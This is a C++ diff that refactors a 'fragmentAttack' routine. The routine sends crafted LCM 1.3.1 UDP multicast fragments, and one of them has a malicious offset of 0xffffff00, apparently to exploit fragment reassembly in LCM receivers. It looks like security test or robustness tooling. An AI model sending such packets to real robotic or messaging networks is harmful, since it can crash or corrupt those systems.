@@ -29,6 +29,7 @@
 
 #include "core/common/command_line.h"
 #include "core/messages/channels.h"
+#include "core/messages/lcm_receive_guard.h"
 #include "core/messages/mutate.h"
 
 namespace {
@@ -83,30 +84,6 @@ bool lcmGroup(sockaddr_in* to) {
   return inet_pton(AF_INET, host.c_str(), &to->sin_addr) == 1;
 }
 
-void put32(Bytes& b, size_t at, uint32_t v) {
-  for (int k = 0; k < 4; ++k) b[at + k] = static_cast<uint8_t>(v >> (24 - 8 * k));
-}
-
-// LCM 1.3.1's fragment header (lcm_udpm.c): "LC03" seqno msg_size offset no count.
-Bytes fragment(uint32_t seqno, uint32_t msg_size, uint32_t offset, uint16_t no, uint16_t count,
-               const std::string& channel, size_t payload) {
-  Bytes b(20);
-  put32(b, 0, 0x4c433033);
-  put32(b, 4, seqno);
-  put32(b, 8, msg_size);
-  put32(b, 12, offset);
-  b[16] = static_cast<uint8_t>(no >> 8);
-  b[17] = static_cast<uint8_t>(no);
-  b[18] = static_cast<uint8_t>(count >> 8);
-  b[19] = static_cast<uint8_t>(count);
-  if (no == 0) {
-    b.insert(b.end(), channel.begin(), channel.end());
-    b.push_back(0);
-  }
-  b.resize(b.size() + payload, 0x41);
-  return b;
-}
-
 int fragmentAttack(const std::vector<std::string>& channel_list) {
   sockaddr_in to{};
   if (!lcmGroup(&to)) {
@@ -123,8 +100,8 @@ int fragmentAttack(const std::vector<std::string>& channel_list) {
   uint32_t seqno = 0x5eed0000;
   int sent = 0;
   for (const std::string& ch : channel_list) {
-    const Bytes first = fragment(seqno, 100000, 0, 0, 2, ch, 1000);
-    const Bytes evil = fragment(seqno, 100000, 0xffffff00u, 1, 2, ch, 1000);
+    const Bytes first = messages::lcmFragmentPacket(seqno, 100000, 0, 0, 2, ch, 1000, 0x41);
+    const Bytes evil = messages::lcmFragmentPacket(seqno, 100000, 0xffffff00u, 1, 2, ch, 1000, 0x41);
     ++seqno;
     for (const Bytes* b : {&first, &evil}) {
       if (sendto(fd, b->data(), b->size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) ==
